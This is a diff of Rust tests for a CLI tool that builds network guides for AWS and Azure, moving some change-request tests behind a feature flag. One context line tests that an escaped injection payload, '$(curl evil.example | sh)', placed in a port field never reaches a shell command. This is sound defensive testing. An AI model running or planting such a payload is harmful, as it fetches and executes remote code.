@@ -31,7 +31,9 @@ const EXAMPLES: &[&str] = &[
     "guide-azure-unidirectional-network",
     "guide-azure-bidirectional",
     "guide-azure-bidirectional-network",
+    #[cfg(feature = "change")]
     "change-aws",
+    #[cfg(feature = "change")]
     "change-azure",
 ];
 
@@ -378,6 +380,7 @@ fn hostile_text_never_reaches_a_command() {
     assert!(md.contains("9200/TCP (\\$\\(curl evil\\.example \\| sh\\))"));
 }
 
+#[cfg(feature = "change")]
 #[test]
 fn change_guide_steps() {
     let g = guide_of("change-aws.json");
@@ -440,6 +443,7 @@ fn cli_guide_valid_exits_0_in_every_format() {
     }
 }
 
+#[cfg(feature = "change")]
 #[test]
 fn cli_guide_reads_standard_input_and_change_requests() {
     let out = run(&["guide", "-"], Some(&common::request("change-azure.json")));
@@ -480,6 +484,7 @@ fn cli_guide_unreadable_or_not_json_exits_2() {
     assert_eq!(out.status.code(), Some(2));
 }
 
+#[cfg(feature = "change")]
 #[test]
 fn cli_ticket_works_for_change_requests() {
     let out = run(&["ticket", &example("change-aws.json")], None);
